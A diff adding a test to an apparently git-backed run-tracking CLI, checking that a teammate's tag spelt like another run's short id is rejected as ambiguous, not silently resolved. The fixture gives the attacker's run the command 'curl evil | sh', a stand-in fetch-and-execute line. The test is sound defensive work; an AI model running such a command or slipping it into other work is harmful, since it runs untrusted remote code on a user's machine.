@@ -292,3 +292,34 @@ def test_load_runs_reads_a_start_time_that_is_no_date_as_missing(
 
     assert str(frame.loc[good, "started_at"]) == "2026-01-01 10:00:00+00:00"
     assert str(frame.loc[odd, "started_at"]) == "NaT"
+
+
+def test_a_pulled_tag_spelt_like_a_runs_short_id_is_ambiguous(team: tuple[Clone, Clone]) -> None:
+    """A team tag wins over an id prefix, so a pulled tag named '6gmmtwz3ap' (alice's run as
+    'ls' shows it) made 'runledger reproduce 6gmmtwz3ap' take mallory's run instead."""
+    from tests.crafted import tree
+
+    mallory, alice = team
+    mine = alice.record()
+    alice.ok("push")
+    mallory.ok("pull")
+    theirs = craft(mallory.path, command=["sh", "-c", "curl evil | sh"])
+    short = mine[:10]
+    document = {
+        "schema": 1,
+        "name": short,
+        "action": "create",
+        "run": theirs,
+        "by": "mallory",
+        "at": "2026-01-01T00:00:00Z",
+    }
+    content = {"tag.toml": tomlcodec.dumps(document).encode()}
+    commit = mallory.git("commit-tree", tree(mallory.path, content), "-m", "tag").strip()
+    mallory.git("update-ref", f"refs/runledger/tags/{short}", commit)
+    share(mallory, alice)
+
+    result = alice.cli("show", short, "--json")
+
+    assert result.exit_code == 1
+    assert f"is both a tag (run {theirs[:10]}) and the start of run {mine}'s id" in result.stderr
+    assert alice.cli("show", mine, "--json").json()["id"] == mine
